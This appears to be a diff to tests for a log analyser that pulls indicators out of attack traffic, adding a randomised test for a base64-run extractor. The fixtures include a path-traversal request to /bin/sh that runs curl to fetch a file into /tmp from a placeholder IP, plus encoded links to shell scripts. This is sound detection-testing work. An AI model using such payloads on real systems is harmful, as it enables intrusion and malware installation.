@@ -5,6 +5,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { indicatorsOf } from "../../src/checks/logs/analyze.ts";
+import { base64Runs } from "../../src/checks/logs/base64-runs.ts";
 
 const PAYLOAD =
   "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1 echo;curl http://198.51.100.9/x/kdevtmpfsi -o /tmp/kdevtmpfsi;ping 203.0.113.5";
@@ -38,4 +39,36 @@ test("a base64 blob and a doubly encoded URL name their indicators too", () => {
   assert.ok(b64.files.includes("redtail") && b64.files.includes("red.sh"), JSON.stringify(b64));
   const twice = indicatorsOf("GET /?u=http%253A%252F%252F192.0.2.8%252Fm.sh HTTP/1.1", "198.51.100.1");
   assert.ok(twice.urls.includes("http://192.0.2.8/m.sh"), JSON.stringify(twice));
+});
+
+test("base64 runs are what the regex /[A-Za-z0-9+/]{16,}={0,2}/g finds, on random and edge texts", () => {
+  const alphabet = ["a", "Z", "0", "+", "/", "=", " ", "%", "é", "-", "\u{1f600}"];
+  let seed = 7;
+  const next = () => {
+    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
+    return seed;
+  };
+  const texts = [
+    "",
+    "=".repeat(5),
+    `${"a".repeat(15)}=`,
+    `${"a".repeat(16)}===`,
+    "ZWNobyBoZWxsbyB3b3JsZA==x",
+    `é${"Y3VybCBodHRwOi8vMS4yLjMuNC94".repeat(3)}é`,
+  ];
+  for (let i = 0; i < 2000; i++) {
+    let t = "";
+    const len = next() % 80;
+    for (let k = 0; k < len; k++) {
+      const c = alphabet[next() % alphabet.length] as string;
+      t += c.repeat(1 + (next() % 20));
+    }
+    texts.push(t);
+  }
+  for (const t of texts)
+    assert.deepEqual(
+      base64Runs(t),
+      [...t.matchAll(/[A-Za-z0-9+/]{16,}={0,2}/g)].map((m) => m[0]),
+      JSON.stringify(t),
+    );
 });
